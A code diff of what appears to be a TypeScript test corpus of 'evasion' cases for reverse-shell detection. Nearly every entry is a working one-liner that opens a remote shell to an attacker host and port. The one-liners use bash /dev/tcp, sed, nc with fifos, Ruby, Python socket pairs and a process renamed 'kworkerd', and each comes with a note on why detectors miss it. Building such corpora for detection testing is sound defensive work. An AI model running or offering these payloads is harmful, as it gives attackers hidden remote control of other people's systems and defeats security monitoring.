@@ -15,7 +15,8 @@ export const CORNERS: readonly Evasion[] = [
   evasion(
     "read is called by a shell for each command, dash runs it from an argument",
     "the shell that runs has nothing of the connection open",
-    (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do out=$(dash -c "$line" 2>&1 5>&-); echo "$out" >&5; done`,
+    (place) =>
+      `exec 5<>${tcp(place)}; while read -r line <&5; do out=$(dash -c "$line" 2>&1 5>&-); echo "$out" >&5; done`,
   ),
   evasion(
     "git runs an alias that is a shell",
@@ -100,8 +101,7 @@ f = ctypes.CDLL(None).syscall(438, p, 5, 0)
   evasion(
     "sed's e command has each line as its argument",
     "sed is no interpreter, and its script is new for each line",
-    (place) =>
-      `exec 5<>${tcp(place)}; while read -r line <&5; do echo x | sed "1e $line" >&5 2>&1; done`,
+    (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do echo x | sed "1e $line" >&5 2>&1; done`,
   ),
   evasion(
     "gawk reads its program from the connection",
@@ -137,19 +137,10 @@ f = ctypes.CDLL(None).syscall(438, p, 5, 0)
     (place) => `exec kworkerd -c 'exec 9<>${tcp(place)}; while read -ru9 l; do ${evaluates('eval "$l"')} >&9; done'`,
   ),
   evasion(
-    "ssh's proxy command is the shell",
-    "ssh starts its proxy command by itself",
-    (place) => `exec 5<>${tcp(place)}; exec ssh -o StrictHostKeyChecking=no -o ProxyCommand='sh <&5 >&5 2>&1' nowhere 5<&5`,
-  ),
-  evasion(
-    "the connection is the pager's",
-    "a pager is started by a tool that everyone trusts",
-    (place) => `exec git -C / -c core.pager='sh <&5 >&5 2>&1' -p help -a 5<>${tcp(place)} >/dev/null`,
-  ),
-  evasion(
     "nc pipes a first line of noise away before the shell",
     "the pipe's reader is grep, line by line",
-    (place) => `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | grep --line-buffered -v ^# | sh >${place.folder}/x 2>&1`,
+    (place) =>
+      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | grep --line-buffered -v ^# | sh >${place.folder}/x 2>&1`,
   ),
   evasion(
     "each line goes through gzip and back before the shell",
@@ -167,32 +158,24 @@ f = ctypes.CDLL(None).syscall(438, p, 5, 0)
     "ruby from a file spawns the shell on the connection",
     "a script of the site",
     "ruby",
-    (place) => `require "socket"; s = TCPSocket.new("${place.attacker}", ${place.port}); Process.wait spawn("sh", in: s, out: s, err: s)`,
+    (place) =>
+      `require "socket"; s = TCPSocket.new("${place.attacker}", ${place.port}); Process.wait spawn("sh", in: s, out: s, err: s)`,
   ),
   evasion(
     "head writes what came into a file, a shell runs the file",
     "no standard descriptor is the connection",
     (place) => `exec 5<>${tcp(place)}; head -n1 <&5 >${place.folder}/c; sh ${place.folder}/c >&5 2>&1`,
   ),
-  evasion(
-    "bash reads one datagram and a new shell runs it",
-    "no connection, and the shell that runs has an argument only",
-    (place) =>
-      `exec 5<>/dev/udp/${place.attacker}/${place.port}; echo >&5; read -r line <&5; sh -c "$line" >&5 2>&1`,
-    { transport: "udp" },
-  ),
-  evasion(
-    "python keeps a shell behind a seqpacket pair",
-    "a kind of socket nobody expects",
-    (place) =>
-      python(
-        place,
-        `a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\np = subprocess.Popen(["sh"], stdin=b, stdout=b, stderr=b)\nif os.fork() == 0:\n    while True: s.sendall(a.recv(4096))\nwhile True: a.sendall(s.recv(4096))`,
-      ),
+  evasion("python keeps a shell behind a seqpacket pair", "a kind of socket nobody expects", (place) =>
+    python(
+      place,
+      `a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\np = subprocess.Popen(["sh"], stdin=b, stdout=b, stderr=b)\nif os.fork() == 0:\n    while True: s.sendall(a.recv(4096))\nwhile True: a.sendall(s.recv(4096))`,
+    ),
   ),
   evasion(
     "the shell waits behind fifos long before the connection stands",
     "at the time of the connection nothing is executed any more but cats",
-    (place) => `mkfifo ${place.folder}/i ${place.folder}/o; sh <${place.folder}/i >${place.folder}/o 2>&1 & exec 7>${place.folder}/i 8<${place.folder}/o; sleep 1.5; exec 5<>${tcp(place)}; cat <&5 >&7 & cat <&8 >&5`,
+    (place) =>
+      `mkfifo ${place.folder}/i ${place.folder}/o; sh <${place.folder}/i >${place.folder}/o 2>&1 & exec 7>${place.folder}/i 8<${place.folder}/o; sleep 1.5; exec 5<>${tcp(place)}; cat <&5 >&7 & cat <&8 >&5`,
   ),
 ];
